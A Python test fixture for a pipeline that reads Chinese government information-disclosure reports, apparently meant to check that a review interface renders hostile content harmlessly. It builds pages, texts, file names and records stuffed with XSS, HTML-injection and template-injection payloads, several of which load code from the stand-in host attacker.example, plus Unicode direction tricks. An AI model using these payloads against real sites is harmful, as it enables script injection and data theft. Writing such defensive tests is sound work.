"""Reports that try to run something, to load something, or to hide something, in whoever looks at them.

Each payload sets `window.owned` or opens a dialog if it runs, and asks `attacker.example` if it
loads. All are text of the report: what a reader of pages keeps is what the review has to show.
"""

from __future__ import annotations

import html
from pathlib import Path

from pipeline.fact import Evidence, Fact, Finding, Record
from pipeline.runs.record import RecordFile, write_text
from pipeline.runs.reviews import ReviewLog, Target

# Shown as text: what the canonical text holds after the file was read.
PAYLOADS = {
    "script": "<script>window.owned=1;alert('script')</script>",
    "script from elsewhere": "<script src=//attacker.example/x.js></script>",
    "module": "<script type=module>import 'https://attacker.example/m.js'</script>",
    "image": "<img src=x onerror=\"window.owned=1;alert('img')\">",
    "image from elsewhere": "<img src=https://attacker.example/p.png>",
    "svg": "<svg onload=window.owned=1><script>alert(1)</script></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=owned=1>#x'/></svg>",
    "math": "<math><mtext></p><img src onerror=owned=1></mtext></math>",
    "iframe": "<iframe src=\"javascript:parent.owned=1\" srcdoc='<script>top.owned=1</script>'></iframe>",
    "object": "<object data=https://attacker.example/o></object><embed src=//attacker.example/e>",
    "link": '<a href="javascript:owned=1">点击</a>',
    "link data": "<a href='data:text/html,<script>alert(1)</script>'>点击</a>",
    "base": "<base href=https://attacker.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "style": "<style>@import '//attacker.example/s.css'; *{position:fixed;width:expression(owned=1)}</style>",
    "style hides": "<style>body{display:none!important}main{visibility:hidden;opacity:0}</style>",
    "form": "<form action=https://attacker.example/><input name=token autofocus onfocus=owned=1></form>",
    "details": "<details open ontoggle=owned=1>x</details>",
    "video": "<video><source onerror=owned=1></video><audio src=x onerror=owned=1>",
    "closing": "</script></style></textarea></title></template></noscript><script>owned=1</script>",
    "closing page": "</span></mark></td></table></main></body></html><script>owned=1</script>",
    "comment": "--><script>owned=1</script><!--",
    "cdata": "]]><script>owned=1</script><![CDATA[",
    "attribute": "\" autofocus onfocus=owned=1 x=\"' onmouseover='owned=1' y='",
    "attribute unquoted": "x onpointerover=owned=1 style=display:none",
    "template": "{{7*7}}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% raw %}${7*7}<%= 7*7 %>",
    "JavaScript string": "\\u003cscript\\u003eowned=1\\u003c/script\\u003e\\x3cimg src onerror=owned=1\\x3e",
    "entities": "&lt;script&gt;owned=1&lt;/script&gt;&#60;img src=x onerror=owned=1&#62;",
    "separators": "line\u2028owned=1;\u2029alert(1)",
    "clobbering": "<form id=live><input name=textContent><a id=source><a id=banner name=hidden>",
    "custom element": "<link rel=import href=//attacker.example/i><portal src=//attacker.example/>",
    "half open": '<img src="https://attacker.example/leak?',
    "full width": "＜script＞owned=1＜/script＞",
    "spreadsheet": '=HYPERLINK("https://attacker.example/","1")',
}
# What turns the direction of text or stacks up signs: the figure beside it has to stay readable.
DISTURBANCES = {
    "direction": "收到\u202e0002\u202c件\u2066甲\u2069\u200f乙",
    "stacked signs": "丙" + "\u0301\u0489\u20dd" * 200,
    "no width": "丁\u200b\u200b\ufeff\u2060戊" * 50,
    "astral": "𠮷😀👩‍👩‍👧‍👦🇨🇳\U000e0041" * 20,
    "one long word": "长" * 20_000,
}

_ROWS = (
    ("本年新收政府信息公开申请数量", 12),
    ("上年结转政府信息公开申请数量", 3),
)


def hostile_page() -> str:
    """A web page: payloads as printed text in headings, paragraphs, cells, metadata; some as real markup."""
    told = [f"<p>{name}：{html.escape(text)}。收到申请12件。</p>" for name, text in _all()]
    cells = [
        f"<tr><td>{html.escape(text)}</td><td>{html.escape(text)}</td><td>{number}</td></tr>"
        for number, text in enumerate(PAYLOADS.values())
    ]
    markup = "".join(PAYLOADS[name] for name in ("script", "image", "svg", "iframe", "link", "style hides"))
    title = "丙丁县2023年政府信息公开工作年度报告"
    return (
        f"<!doctype html><html><head><title>{title}{html.escape(PAYLOADS['closing'])}</title>"
        f'<meta name="author" content="{html.escape(PAYLOADS["attribute"])}"></head><body onload="owned=1">'
        f"<p>发布机构：{html.escape(PAYLOADS['image'])}</p><p>索引号：{html.escape(PAYLOADS['script'])}</p>"
        f"<p>发布日期：2024-01-15</p><h1>{title}</h1><h2>一、总体情况{html.escape(PAYLOADS['svg'])}</h2>"
        f"{''.join(told)}<h2>二、收到和处理政府信息公开申请情况</h2><table>{_form()}</table>"
        f"<table>{''.join(cells)}</table>{markup}<p>本年共收到信息公开申请12件。</p></body></html>"
    )


def _form() -> str:
    payload = html.escape(PAYLOADS["attribute"])
    head = "".join(
        f"<td>{each}</td>"
        for each in ("自然人", "商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他", "总计")
    )
    rows = "".join(
        f"<tr><td>{name}</td><td>{count}</td>{f'<td>{payload}</td>' * 5}<td>{count}</td></tr>"
        for name, count in _ROWS
    )
    return f"<tr><td>申请人情况</td>{head}</tr>{rows}"


def hostile_text() -> str:
    """A plain text: payloads as they are."""
    told = "\n".join(f"{name}：{text}。收到申请12件。" for name, text in _all())
    return (
        f"甲乙市2023年政府信息公开工作年度报告\n发布机构：{PAYLOADS['image']}\n一、总体情况\n{told}\n"
        f"二、主动公开情况\n{PAYLOADS['script']}\t{PAYLOADS['svg']}\t3\n本年共收到信息公开申请12件，答复12件。\n"
    )


def _all() -> list[tuple[str, str]]:
    return [*PAYLOADS.items(), *DISTURBANCES.items()]


# A name of a file is text too: of the list, of titles, of the notice that the file is gone.
FILE_NAMES = (
    '"><img src=x onerror=owned=1>{{7*7}}.html',
    "'onfocus=owned=1 autofocus x='&lt;svg onload=alert(1)&gt;.txt",
)


def write_hostile(folder: Path) -> tuple[Path, Path]:
    """Both reports below `folder`, under hostile names."""
    folder.mkdir(parents=True, exist_ok=True)
    page, text = (folder / name for name in FILE_NAMES)
    page.write_text(hostile_page(), encoding="utf-8")
    text.write_text(hostile_text(), encoding="utf-8")
    return page, text


def add_hostile_records(run: Path) -> None:
    """Two records as somebody could make them up, one of a document that failed, and a review of the first.

    Every text that a record or a review may hold is a payload.
    """
    record, text = _hostile_record()
    error = PAYLOADS["closing"] + PAYLOADS["image"]
    failed = Record(
        doc_id="javascript:owned=1",
        file=PAYLOADS["svg"],
        sha256="cd" * 32,
        media_type=None,
        status="failed",
        error=error,
        error_code=PAYLOADS["attribute"],
    )
    file = RecordFile(run)
    for each in (record, failed):
        file.append(each)
    file.close()
    write_text(run, record.sha256, text)
    corrected = record.facts[1]
    with ReviewLog.opened(run) as log:
        log.append(
            record.doc_id,
            record.sha256,
            PAYLOADS["image"],
            "correct",
            Target.of(corrected),
            corrected.model_copy(update={"method": "human", "value": 14}),
            PAYLOADS["closing"],
        )


def _hostile_record() -> tuple[Record, str]:
    image, attribute, closing = (PAYLOADS[name] for name in ("image", "attribute", "closing page"))
    lines = ("丙丁县", image, closing, attribute, "收到申请12件")
    text = "\n".join(lines)

    def found(path: str, raw: str, value: int | str, source: str, method: str) -> Fact:
        start = text.index(raw)
        return Fact.model_validate(
            {
                "path": path,
                "value": value,
                "raw": raw,
                "unit": attribute,
                "source": source,
                "method": method,
                "evidence": Evidence(start=start, end=start + len(raw)),
                "confidence": 0.5,
                "label": closing,
                "alternatives": ((image, "rule"),),
            }
        )

    facts = (
        found("meta.issuer", image, image, "metadata", "rule"),
        found("requests.granted.total", "12", 12, "narrative", "label"),
        found("text.problems", attribute, attribute, "narrative", "fill"),
    )
    finding = Finding(
        rule=attribute,
        severity="error",
        cause="reading",
        paths=("meta.issuer", image),
        expected=closing,
        printed=image,
        message=PAYLOADS["closing"] + image,
        at=attribute,
        evidence=(facts[0].evidence,),
    )
    record = Record(
        doc_id='"><img src=x onerror=owned=1>\n\u2028{{7*7}}',
        file=f"../{image}",
        sha256="ab" * 32,
        media_type=attribute,
        status="flagged",
        facts=facts,
        findings=(finding,),
    )
    return record, text
